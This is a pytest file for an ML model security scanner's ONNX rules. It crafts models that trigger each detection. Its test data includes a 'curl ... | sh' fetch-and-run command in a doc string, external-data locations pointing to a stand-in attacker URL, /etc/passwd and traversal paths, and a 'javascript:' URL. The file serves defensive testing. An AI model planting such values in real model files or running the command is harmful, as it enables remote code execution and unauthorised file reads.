"""ONNX scanner: real models raise nothing at medium or above; one crafted case per rule; the protobuf walk
sees what the protobuf parser builds (merged singular messages, last scalar wins)."""
from __future__ import annotations

import os

import pytest

from mlguard import scan_file, scan_tree
from mlguard.engine.pure.onnx_schema import SCHEMA
from mlguard.engine.pure.protobuf import walk
from mlguard.findings import Severity

onnx = pytest.importorskip("onnx")
np = pytest.importorskip("numpy")
from onnx import TensorProto, helper, numpy_helper  # noqa: E402


def model(nodes=None, *, initializers=(), opsets=(("", 17),), functions=(), doc="", metadata=None, ir=None):
    nodes = nodes if nodes is not None else [helper.make_node("Relu", ["x"], ["y"])]
    graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], list(initializers))
    m = helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets],
                          functions=list(functions), doc_string=doc)
    if ir is not None:
        m.ir_version = ir
    for k, v in (metadata or {}).items():
        helper.set_model_props(m, {k: v})
    return m


def rules(tmp_path, m, name="m.onnx") -> dict:
    path = tmp_path / name
    path.write_bytes(m.SerializeToString() if hasattr(m, "SerializeToString") else m)
    return {f.rule_id: f.severity for f in scan_file(path).findings}


def test_real_models_raise_nothing(tmp_path):
    w = numpy_helper.from_array(np.ones((2, 2), np.float32), "w")
    loop_body = helper.make_graph([helper.make_node("Identity", ["c"], ["c_out"])], "body",
                                  [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                                   helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
                                  [helper.make_tensor_value_info("c_out", TensorProto.BOOL, [])])
    nodes = [helper.make_node("MatMul", ["x", "w"], ["y"]),
             helper.make_node("If", ["cond"], ["z"], then_branch=loop_body, else_branch=loop_body)]
    m = model(nodes, initializers=[w], metadata={"author": "team"})
    assert rules(tmp_path, m) == {}
    onnx.save(m, tmp_path / "ext.onnx", save_as_external_data=True, all_tensors_to_one_file=True,
              location="ext.onnx.data", size_threshold=0)
    found = scan_tree(tmp_path).findings
    assert [f for f in found if f.scanner == "onnx" or f.severity >= Severity.MEDIUM] == []


def test_the_walk_merges_like_protobuf():
    first = model([helper.make_node("Relu", ["x"], ["y"])]).SerializeToString()
    second = onnx.ModelProto(graph=helper.make_graph([helper.make_node("Abs", ["y"], ["z"])], "g2", [], []))
    data = first + second.SerializeToString()
    parsed = onnx.ModelProto.FromString(data)
    walked = walk(data, SCHEMA, "Model")
    assert [n["op_type"] for n in walked["graph"]["node"]] == [n.op_type for n in parsed.graph.node]
    assert walked["graph"]["name"] == parsed.graph.name == "g2"


def _function(name, domain, calls):
    return helper.make_function(domain, name, ["a"], ["b"], [helper.make_node(calls[1], ["a"], ["b"], domain=calls[0])],
                                [helper.make_opsetid("", 17), helper.make_opsetid(domain, 1)])


@pytest.mark.parametrize("build, rule, severity", [
    (lambda: b"\x0a\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", "onnx-malformed", "high"),   # over-long varint
    (lambda: model().SerializeToString() + b"\x0b", "onnx-malformed", "high"),                 # group wire type
    (lambda: model().SerializeToString()[:-3], "onnx-malformed", "high"),                      # truncated
    (lambda: model([]), "onnx-empty", "low"),
    (lambda: model(ir=2), "onnx-old-ir-version", "low"),
    (lambda: model(opsets=(("", 5),)), "onnx-old-opset", "low"),
    (lambda: model(opsets=(("", 17), ("evil.ops", 1))), "onnx-non-standard-opset-domain", "medium"),
    (lambda: model([helper.make_node("Relux", ["x"], ["y"])]), "onnx-unknown-op", "high"),
    (lambda: model([helper.make_node("FusedGemm", ["x"], ["y"], domain="com.microsoft")],
                   opsets=(("", 17), ("com.microsoft", 1))), "onnx-vendor-domain-op", "low"),
    (lambda: model([helper.make_node("Backdoor", ["x"], ["y"], domain="evil.ops")], opsets=(("", 17), ("evil.ops", 1))),
     "onnx-custom-domain-op", "high"),
    (lambda: model([helper.make_node("Backdoor", ["x"], ["y"], domain="evil.ops")]), "onnx-domain-without-opset",
     "medium"),
    (lambda: model([helper.make_node("f", ["x"], ["y"], domain="local")], opsets=(("", 17), ("local", 1)),
                   functions=[_function("f", "local", ("local", "g")), _function("g", "local", ("local", "f"))]),
     "onnx-function-cycle", "high"),
    (lambda: model(doc="run: curl -s http://x.example/a.sh | sh"), "onnx-attr-shell-command", "high"),
    (lambda: model(metadata={"home": "javascript:alert(1)"}), "onnx-attr-url", "medium"),
    (lambda: model(metadata={"home": "https://example.com"}), "onnx-metadata-url", "low"),
    (lambda: model([helper.make_node("Relu", ["x"], ["y"], doc_string="reads ../../secrets")]),
     "onnx-attr-path-traversal", "medium"),
    (lambda: model([helper.make_node("Relu", ["x"], ["y"], doc_string="built in /home/ci/work")]),
     "onnx-attr-absolute-path", "low"),
])
def test_one_crafted_case_per_rule(tmp_path, build, rule, severity):
    assert rules(tmp_path, build()).get(rule) == Severity(severity), rules(tmp_path, build())


def _external_model(location: str, **extra) -> onnx.ModelProto:
    t = numpy_helper.from_array(np.ones(4, np.float32), "w")
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    for key, value in {"location": location, "offset": "0", "length": "16", **extra}.items():
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    return model([helper.make_node("Add", ["x", "w"], ["y"])], initializers=[t])


@pytest.mark.parametrize("location, extra, rule, severity", [
    ("https://evil.example/w.bin", {}, "onnx-external-url", "high"),
    ("/etc/passwd", {}, "onnx-external-absolute-path", "high"),
    ("C:\\Windows\\win.ini", {}, "onnx-external-absolute-path", "high"),
    ("\\\\server\\share\\w.bin", {}, "onnx-external-absolute-path", "high"),
    ("../../w.bin", {}, "onnx-external-path-traversal", "high"),
    ("missing.bin", {}, "onnx-external-missing", "medium"),
    ("w.bin", {"exec": "1"}, "onnx-external-unknown-key", "medium"),
    ("short.bin", {}, "onnx-external-out-of-bounds", "high"),
    ("link.bin", {}, "onnx-external-link", "high"),
])
def test_external_data(tmp_path, location, extra, rule, severity):
    (tmp_path / "w.bin").write_bytes(b"\0" * 16)
    (tmp_path / "short.bin").write_bytes(b"\0" * 4)
    os.symlink("/etc/hostname", tmp_path / "link.bin")
    assert rules(tmp_path, _external_model(location, **extra)).get(rule) == Severity(severity)


def test_native_libraries_beside_a_model(tmp_path):
    (tmp_path / "custom_ops.so").write_bytes(b"\x7fELF")
    assert rules(tmp_path, model())["onnx-native-library"] == Severity.HIGH


def test_native_and_pure_walks_agree(tmp_path):
    """Differential: the Rust walker gives the pure one's dict on real, merged, truncated and corrupted models."""
    from mlguard import engine
    if engine.engine_name() != "native":
        pytest.skip("the native engine is not built")
    import random
    w = numpy_helper.from_array(np.ones((8, 8), np.float32), "w")
    base = model([helper.make_node("MatMul", ["x", "w"], ["y"], doc_string="d\xe9j\xe0")], initializers=[w],
                 metadata={"k": "v"}).SerializeToString()
    second = onnx.ModelProto(graph=helper.make_graph([helper.make_node("Abs", ["y"], ["z"])], "g2", [], []))
    inputs = [base, base + second.SerializeToString(), base[:-7], base + b"\x0b", b"", b"\x00",
              b"\x0a" + b"\xff" * 11]
    rng = random.Random(7)
    for _ in range(300):
        corrupted = bytearray(base)
        for _ in range(rng.randint(1, 4)):
            corrupted[rng.randrange(len(corrupted))] = rng.randrange(256)
        inputs.append(bytes(corrupted))
    for data in inputs:
        assert engine.protobuf_walk(data, SCHEMA, "Model", engine="native") == \
            engine.protobuf_walk(data, SCHEMA, "Model", engine="python"), data[:40]


def test_a_file_over_the_protobuf_limit(tmp_path):
    """A sparse file: a real model, then a second `graph` field (protobuf merges it into the first) holding an
    initializer whose raw_data is 2 GiB of zeros (skipped by length, never read)."""
    def varint(n: int) -> bytes:
        out = b""
        while n >= 0x80:
            out, n = out + bytes([n & 0x7F | 0x80]), n >> 7
        return out + bytes([n])

    def field(number: int, length: int) -> bytes:   # the tag and length of a length-delimited field
        return varint(number << 3 | 2) + varint(length)

    raw = 2 << 30
    tensor = numpy_helper.from_array(np.zeros(0, np.float32), "w").SerializeToString()
    tensor_len = len(tensor) + len(field(9, raw)) + raw
    graph_len = len(field(5, tensor_len)) + tensor_len
    path = tmp_path / "big.onnx"
    with open(path, "wb") as f:
        f.write(model().SerializeToString() + field(7, graph_len) + field(5, tensor_len) + tensor + field(9, raw))
        f.seek(raw - 1, os.SEEK_CUR)
        f.write(b"\0")
    assert path.stat().st_size > (2 << 30)
    found = {f.rule_id: f.severity for f in scan_file(path).findings}
    assert found == {"onnx-too-large": Severity.LOW}


def test_node_limit(tmp_path, monkeypatch):
    from mlguard.scanners import onnx as onnx_scanner
    monkeypatch.setattr(onnx_scanner, "MAX_NODES", 3)
    nodes = [helper.make_node("Relu", ["x"], ["a"]), helper.make_node("Relu", ["a"], ["b"]),
             helper.make_node("Relu", ["b"], ["c"]), helper.make_node("Custom", ["c"], ["y"], domain="evil.ops")]
    found = rules(tmp_path, model(nodes))
    assert found == {"onnx-too-many-nodes": Severity.MEDIUM}   # the fourth node was not checked
